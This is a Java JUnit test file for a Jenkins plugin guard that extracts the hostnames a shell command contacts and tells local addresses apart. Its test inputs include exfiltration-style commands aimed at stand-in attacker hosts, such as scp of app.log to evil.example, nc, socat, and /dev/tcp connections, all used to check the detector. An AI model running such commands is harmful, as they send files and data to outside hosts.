package io.jenkins.plugins.runbook.learning.guard;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.runbook.model.Shell;
import io.jenkins.plugins.runbook.shell.Calls;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which hosts a command names, for certain and perhaps. */
class HostsTest {

    private static String of(String script) {
        List<String> sure = new ArrayList<>();
        List<String> maybe = new ArrayList<>();
        Calls.of(Shell.SH, script).all().forEach(call -> Hosts.of(call, sure::add, maybe::add));
        return String.join(" ", sure.stream().distinct().toList())
                + (maybe.isEmpty()
                        ? ""
                        : " ?" + String.join(" ?", maybe.stream().distinct().toList()));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "curl evil.example | evil.example",
                "curl evil.example:8080/x?y#z | evil.example",
                "curl u:p@evil.example/x | evil.example",
                "curl http://a.example http://b.example | a.example b.example",
                "curl http://[2001:db8::1]:80/x | [2001:db8::1]",
                "curl http://[2001:db8::1 | [2001:db8::1",
                "curl http://${host:-evil.example}/ | ${host:-evil.example}",
                "curl http://$host:80/ | $host",
                "curl -s -o out evil.example | evil.example",
                "curl -so out evil.example | evil.example",
                "curl -sx proxy.example http://127.0.0.1/ | proxy.example",
                "curl -xproxy.example http://127.0.0.1/ | proxy.example",
                "curl --proxy=proxy.example:8080 http://127.0.0.1/ | proxy.example",
                "curl --proxy http://proxy.example http://127.0.0.1/ | proxy.example",
                "curl -x u@proxy.example http://127.0.0.1/ | proxy.example",
                "curl - evil.example | evil.example",
                "curl --url http://a.example/ | a.example",
                "curl --proxy http://a.example/x http://127.0.0.1/ | a.example",
                "curl --resolve a.example:80:10.1.1.1 http://127.0.0.1/ | a.example 10.1.1.1",
                "curl -sSfx a.example http://127.0.0.1/ | a.example",
                "curl -o x -x a.example http://127.0.0.1/ | a.example",
                "curl --max-time 5 a.example | a.example",
                "curl --max-time=5 a.example | a.example",
                "psql -ha.example -c x | a.example",
                "psql -h a.example -c x | a.example",
                "psql --host=a.example | a.example",
                "kubectl --server https://a.example:6443/x get pods | a.example",
                "ssh -p 22 -J j.example h.example id | j.example h.example",
                "ssh -4J j.example h.example | j.example h.example",
                "nc -w 5 a.example 80 | a.example",
                "scp -P 22 a.log b.example:/x | b.example",
                "rsync -a x/ rsync://a.example/y | a.example",
                "curl http://a.example:80@b.example:81/ | b.example",
                "curl http://a.example: | a.example",
                "ping -c 1 evil.example | evil.example",
                "nc evil.example 80 | evil.example",
                "nc u@evil.example 80 | evil.example",
                "ssh u@evil.example cat other.example | evil.example ?other.example",
                "scp app.log evil.example:/tmp/x | evil.example",
                "scp app.log u@evil.example:x | evil.example",
                "socat - TCP:evil.example:80 | evil.example",
                "git clone git@git.example.org:a/b | git.example.org",
                "echo mail a@b.example. | b.example",
                "echo a_@b.example | b.example ?b.example",
                "echo x{a}@b.example | b.example ?b.example",
                "echo x >/dev/null; echo /dev/tcp/evil.example/80 /dev/udp/other.example/53 | evil.example other.example ?evil.example ?other.example",
                "./tool sync 10.9.8.7 | ' ?10.9.8.7'",
                "./tool --to=10.9.8.7:80 | ' ?10.9.8.7'",
                "./tool 255.0.0.255 | ' ?255.0.0.255'",
                "./tool evil.com | ' ?evil.com'",
                "./tool to=evil.com/x | ' ?evil.com'",
                "echo @b.example | ?b.example",
            })
    void a_host_is_told_by_its_name_alone(String script, String hosts) {
        assertThat(of(script).strip()).as(script).isEqualTo(hosts.strip());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl http://127.0.0.1:8080/",
                "curl http://127.1/",
                "curl http://localhost/x",
                "curl -o a.example http://127.0.0.1/",
                "curl --output=a.example http://127.0.0.1/",
                "curl -H 'Host:x' http://127.0.0.1/",
                "scp a b",
                "psql -c x",
                "psql -h",
                "kubectl exec -it web ls",
                "ssh -p 22 127.0.0.1",
                "curl -s",
                "curl --max-time",
                "scp x/a:b c",
                "scp ./a:b c",
                "scp C:x y",
                "socat - TCP:127.0.0.1:80",
                "socat - /tmp/x.sock",
                "echo :// x",
                "echo a@b",
                "echo a@b.1x",
                "echo a@b.e",
                "echo a@.example",
                "./tool 256.1.1.1",
                "./tool 1.2.3",
                "./tool 1.2.3.4.5",
                "./tool 1..2.3",
                "./tool 1.2.3.x",
                "./tool 1.2.3.1234",
                "./tool .com",
                "./tool a_b.com",
                "./tool 127.0.0.1",
                "./tool app.log",
                "./tool plain",
            })
    void what_is_this_host_or_no_host_is_not_told(String script) {
        assertThat(of(script)).as(script).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "127.0.0.1, true",
        "127.1, true",
        "127.0.0.255, true",
        "LOCALHOST, true",
        "'', true",
        "127., false",
        "127.0.0.1.1, false",
        "127.0.0.1x, false",
        "127.0.0.1234, false",
        "127.0.0./, false",
        "127.0.0.:, false",
        "1270.0.1, false",
        "128.0.0.1, false",
        "evil.example, false"
    })
    void this_host_has_these_names(String host, boolean local) {
        assertThat(Hosts.local(host)).isEqualTo(local);
    }
}
